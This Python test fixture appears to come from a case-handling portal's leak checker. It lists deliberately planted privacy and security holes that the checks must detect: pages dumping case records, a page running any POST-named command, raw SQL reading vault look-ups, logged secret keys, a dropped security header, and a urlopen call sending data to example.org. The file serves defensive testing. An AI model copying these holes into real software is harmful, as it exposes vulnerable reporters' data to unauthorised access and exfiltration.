"""Leaks that somebody might put into the portal: each is planted alone in a copy of the code, and must be caught.

A leak is a few lines at the end of a file, a new file, or a change of one line. `check` says which of the checks of
`site.firewall.checking` must find it (or `headers`, which asks the running portal), and `says` a word of its finding.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

PORTAL: Final = "fairway_portal/"
CASES: Final = "from fairway_portal.casework.cases.models import Case\n"


@dataclass(frozen=True, slots=True)
class Leak:
    """One leak.

    Attributes:
        name: What somebody did.
        file: In `src`.
        adds: Goes to the end of the file, which is made if there is none; or takes the place of `instead_of`.
        check: Which check must find it.
        says: What its finding must name.
        instead_of: A line of the file; "" adds at the end.
    """

    name: str
    file: str
    adds: str
    check: str
    says: str
    instead_of: str = ""


LEAKS: Final = (
    Leak(
        "the API lists cases", f"{PORTAL}api/lists.py",
        f'{CASES}\n@router.get("/cases")\ndef planted(request):\n    return list(Case.objects.values())\n',
        "paths", "page api/v1/cases",
    ),
    Leak(
        "a page of licensing imports cases", f"{PORTAL}register/licensing/desk/list_views.py",
        f"\ndef planted(request):\n    {CASES}    return Case.objects.filter(state='open')\n",
        "paths", "purpose licensing → room register",
    ),
    Leak(
        "a public page counts the cases of each office, by the relation alone",
        f"{PORTAL}casework/transparency/urls.py",
        "\nfrom django.db.models import Count\nfrom django.http import JsonResponse\n"
        "from fairway_portal.casework.keys.models import Office\n"
        "def planted(request, language):\n"
        '    return JsonResponse({one.name: one.n for one in Office.objects.annotate(n=Count("cases"))})\n'
        'urlpatterns = [*urlpatterns, path("<language:language>/planted", planted)]\n',
        "paths", "planted → ",
    ),
    Leak(
        "a field that nobody declared", f"{PORTAL}casework/cases/models/case.py",
        '    planted = models.CharField(max_length=9)\n    version = models.PositiveIntegerField(default=0)\n',
        "declarations", "add “planted”", "    version = models.PositiveIntegerField(default=0)\n",
    ),
    Leak(
        "envelopes declared public", f"{PORTAL}casework/vault/sensitivity.py",
        'Sensitivity.PUBLIC: ("envelope",)', "declarations", "“envelope” is declared PUBLIC",
        'Sensitivity.IDENTITY: ("envelope",)',
    ),
    Leak(
        "an immigration officer admitted to a list of cases", f"{PORTAL}casework/cases/urls.py",
        f"\n{CASES}from django.http import JsonResponse\nfrom django.urls import path\n"
        "from fairway_portal.accounts.models import Role\nfrom fairway_portal.accounts.permissions import requires\n"
        "@requires(Role.HANDLER, Role.IMMIGRATION_OFFICER)\n"
        "def planted(request):\n    return JsonResponse({'n': list(Case.objects.values())})\n"
        'urlpatterns = [*urlpatterns, path("<language:language>/desk/planted", planted)]\n',
        "paths", "purpose immigration → role immigration_officer → page <language:language>/desk/planted",
    ),
    Leak(
        "a page of cases without a role", f"{PORTAL}casework/cases/urls.py",
        f"\n{CASES}from django.http import JsonResponse\nfrom django.urls import path\n"
        "def planted(request, language):\n    return JsonResponse({'n': list(Case.objects.values())})\n"
        'urlpatterns = [*urlpatterns, path("<language:language>/desk/planted", planted)]\n',
        "paths", "role everybody → page <language:language>/desk/planted",
    ),
    Leak(
        "a command prints envelopes", f"{PORTAL}casework/vault/management/commands/show_envelopes.py",
        "from django.core.management.base import BaseCommand\nfrom fairway_portal.casework.vault.models import Sealed\n"
        "class Command(BaseCommand):\n    def handle(self, **options):\n"
        "        for one in Sealed.objects.all():\n            self.stdout.write(repr(bytes(one.envelope)))\n",
        "paths", "command fairway_portal.casework.vault.management.commands.show_envelopes",
    ),
    Leak(
        "the number of a case in the record of actions", f"{PORTAL}casework/cases/actions/planted.py",
        "from fairway_portal.accounts import audit\n"
        'def planted(by, case):\n    audit.record(by, "case.read", case.number)\n',
        "slips", "cases.actions.planted.planted writes into the record",
    ),
    Leak(
        "a look-up in the log", f"{PORTAL}casework/thread/planted.py",
        "import logging\nlogger = logging.getLogger(__name__)\n"
        'def planted(keys):\n    logger.info("she came back: %s", keys.lookup)\n',
        "slips", "logs “keys.lookup”",
    ),
    Leak(
        "cases at hand in every template", f"{PORTAL}design/environment.py",
        f"\n{CASES}def planted(**options):\n    made = environment(**options)\n"
        "    made.globals.update(cases=Case.objects)\n    return made\n",
        "paths", "room design",
    ),
    Leak(
        "a template asks a table", f"{PORTAL}casework/templates/casework/planted.html",
        "{% for one in office.cases.all() %}{{ one.number }}{% endfor %}", "slips", "planted.html asks a table",
    ),
    Leak(
        "a receiver of a signal copies cases into the register", f"{PORTAL}actors/planted.py",
        "from django.db.models.signals import post_save\nfrom django.dispatch import receiver\n"
        '@receiver(post_save, sender="fairway_cases.Case")\n'
        "def planted(instance, **said):\n    from fairway_portal.actors.models import Agency\n"
        "    Agency.objects.create(name=instance.number)\n",
        "paths", "room actors",
    ),
    Leak(
        "a receiver of a signal inside casework", f"{PORTAL}casework/keys/planted.py",
        "from django.db.models.signals import post_save\n"
        "def copied(instance, **said):\n    print(instance.cases.count())\n"
        "def planted():\n    post_save.connect(copied)\n",
        "paths", "casework.keys.planted",
    ),
    Leak(
        "a job puts cases into its result", f"{PORTAL}casework/cases/jobs.py",
        f"\nfrom django_tasks import task\n{CASES}@task()\ndef planted():\n    return list(Case.objects.values())\n",
        "paths", "task fairway_portal.casework.cases.jobs.planted",
    ),
    Leak(
        "a relation from the register's database to cases", f"{PORTAL}actors/models/branch.py",
        '\nclass Planted(models.Model):\n    case = models.ForeignKey("fairway_cases.Case", models.CASCADE)\n'
        '    class Meta:\n        app_label = "fairway_actors"\n',
        "two databases", "Planted.case refers to Case",
    ),
    Leak(
        "a setting names a receiver inside casework", f"{PORTAL}site/settings/base.py",
        '\nSURVEY_RECEIVERS["complaint"] = "fairway_portal.casework.cases.models.case.Case"\n',
        "paths", "code fairway_portal.site.settings.base.",
    ),
    Leak(
        "counts that go round the gate", f"{PORTAL}casework/transparency/urls.py",
        f"\n{CASES}from django.db.models import Count\nfrom django.http import JsonResponse\n"
        "def planted(request, language):\n"
        "    return JsonResponse({'n': list(Case.objects.values('type').annotate(n=Count('id')))})\n"
        'urlpatterns = [*urlpatterns, path("<language:language>/planted", planted)]\n',
        "paths", "page <language:language>/planted",
    ),
    Leak(
        "a questionnaire asks for a visa", "fairway/recruitment/ratings/modules.py",
        "\nfrom dataclasses import replace as _replace\n_kept = dict(QUESTIONNAIRES)\n"
        "def _planted():\n    whole = _kept['recruitment_rating']()\n    first = whole.pages[0]\n"
        "    asked = _replace(first.questions[0], name='visa_status', answer='text')\n"
        "    first = _replace(first, questions=(*first.questions, asked))\n"
        "    return _replace(whole, pages=(first, *whole.pages[1:]))\n"
        "QUESTIONNAIRES = {**_kept, 'recruitment_rating': _planted}\n",
        "status", "visa_status",
    ),
    Leak(
        "a form asks for the number of a passport", f"{PORTAL}casework/templates/casework/planted_form.html",
        '<input name="passport_number">', "status", "passport_number",
    ),
    Leak(
        "the address of her device beside her draft", f"{PORTAL}casework/vault/models/draft.py",
        "    ip_address = models.GenericIPAddressField(null=True)\n    touched = models.DateField()\n",
        "status", "Draft.ip_address", "    touched = models.DateField()\n",
    ),
    Leak(
        "a page speaks to another machine", f"{PORTAL}observatory/planted.py",
        "from urllib.request import urlopen\n"
        'def planted(said):\n    urlopen("https://example.org/?" + said)\n',
        "slips", "urllib.request.urlopen",
    ),
    Leak(
        "an answer to her goes out as mail", f"{PORTAL}casework/thread/planted.py",
        "from django.core.mail import send_mail\ndef planted(to):\n    send_mail('News', 'Come back', None, [to])\n",
        "slips", "sends mail",
    ),
    Leak(
        "a header dropped", f"{PORTAL}site/headers.py", "", "headers", "Permissions-Policy",
        '        response.headers.setdefault("Permissions-Policy", PERMISSIONS_POLICY)\n',
    ),
    Leak(
        "a page for workers loads from elsewhere", f"{PORTAL}surveys/running/door_keeping.py",
        "img-src *;", "headers", "Content-Security-Policy", "img-src 'self';",
    ),
    Leak(
        "a cookie on a page for workers", f"{PORTAL}surveys/running/planted.py",
        "def planted(response):\n    response.set_cookie('seen', '1')\n    return response\n", "slips", "sets a cookie",
    ),
    Leak(
        "her number in the session", f"{PORTAL}casework/thread/planted.py",
        "def planted(request, number):\n    request.session['number'] = number\n", "slips", "uses a session",
    ),
    Leak(
        "her number in an address", f"{PORTAL}casework/thread/urls.py",
        "\nfrom django.http import HttpResponse\nfrom django.urls import path\n"
        "def planted(request, language, number):\n    return HttpResponse()\n"
        'urlpatterns = [*urlpatterns, path("<report_language:language>/notes/back/<str:number>", planted)]\n',
        "slips", "carries <number>",
    ),
    Leak(
        "a view goes from a case to its envelopes", f"{PORTAL}casework/cases/planted_views.py",
        "def planted(case):\n    return [one.envelope for one in case.report.envelopes.all()]\n",
        "slips", "case.report.envelopes",
    ),
    Leak(
        "the vault by its label", f"{PORTAL}observatory/planted.py",
        "from django.apps import apps\n"
        'def planted():\n    return apps.get_model("fairway_vault", "Sealed").objects.count()\n',
        "paths", "room observatory",
    ),
    Leak(
        "the vault by a path in a text", f"{PORTAL}surveys/planted.py",
        "from django.utils.module_loading import import_string\n"
        'def planted():\n    return import_string("fairway_portal.casework.vault.queries.envelope")\n',
        "paths", "room surveys",
    ),
    Leak(
        "the vault by a path put together", f"{PORTAL}observatory/planted.py",
        "from importlib import import_module\n"
        'def planted():\n    """Shows it."""\n'
        '    return import_module("fairway_portal.casework." + "vault.queries").envelope\n',
        "paths", "room observatory",
    ),
    Leak(
        "the vault from a page of handlers, by a path put together", f"{PORTAL}casework/cases/desk/planted.py",
        "from importlib import import_module\n"
        'PART = "vault"\ndef planted(id):\n    """Shows it."""\n'
        '    return import_module(f"fairway_portal.casework.{PART}.queries").envelope(id)\n',
        "slips", "casework.cases.desk.planted.planted looks up",
    ),
    Leak(
        "the vault from what is loaded", f"{PORTAL}register/planted.py",
        'import sys\ndef planted(name):\n    """Shows it."""\n    return sys.modules[name].Sealed.objects.all()\n',
        "paths", "room register",
    ),
    Leak(
        "a page runs the command that somebody names", f"{PORTAL}monitor/planted.py",
        "from django.core.management import call_command\n"
        'def planted(request):\n    """Runs it."""\n    call_command(request.POST["command"], stdout=request)\n',
        "paths", "room monitor",
    ),
    Leak(
        "whatever somebody names", f"{PORTAL}api/planted.py",
        "from django.apps import apps\n"
        'def planted(request):\n    return apps.get_model(request.GET["of"], request.GET["model"]).objects.all()\n',
        "paths", "room api",
    ),
    Leak(
        "a statement of SQL", f"{PORTAL}site/planted.py",
        "from django.db import connections\n"
        "def planted(alias):\n    with connections[alias].cursor() as cursor:\n"
        '        cursor.execute("SELECT lookup FROM fairway_vault_report")\n',
        "paths", "room site",
    ),
    Leak(
        "a cursor on the database of casework", f"{PORTAL}monitor/planted.py",
        "from django.db import connections\ndef planted():\n    return connections['casework'].cursor()\n",
        "paths", "room monitor",
    ),
    Leak(
        "a temporary file with what she wrote", f"{PORTAL}casework/intake/planted.py",
        "import tempfile\ndef planted(content):\n"
        "    with tempfile.NamedTemporaryFile() as kept:\n        kept.write(content)\n",
        "slips", "makes a temporary file",
    ),
    Leak(
        "keys of hers made of a look-up", f"{PORTAL}casework/cases/planted.py",
        "from fairway.safe_reporting.receipts import ReceiptKeys\n"
        "def planted(report):\n    return ReceiptKeys(report.lookup, b'', '', report.reporter)\n",
        "slips", "puts keys of hers together",
    ),
    Leak(
        "a page of hers lists cases without her number", f"{PORTAL}casework/thread/urls.py",
        f"\n{CASES}from django.http import JsonResponse\nfrom django.urls import path\n"
        "def planted(request, language):\n    return JsonResponse({'n': list(Case.objects.values())})\n"
        'urlpatterns = [*urlpatterns, path("<report_language:language>/notes/planted", planted)]\n',
        "paths", "page <report_language:language>/notes/planted",
    ),
)  # fmt: skip
IN_CI: Final = (
    "the API lists cases", "a field that nobody declared", "an immigration officer admitted to a list of cases",
    "a look-up in the log", "counts that go round the gate", "a header dropped",
)  # fmt: skip
"""Always the same ones: what is tried does not depend on the day."""
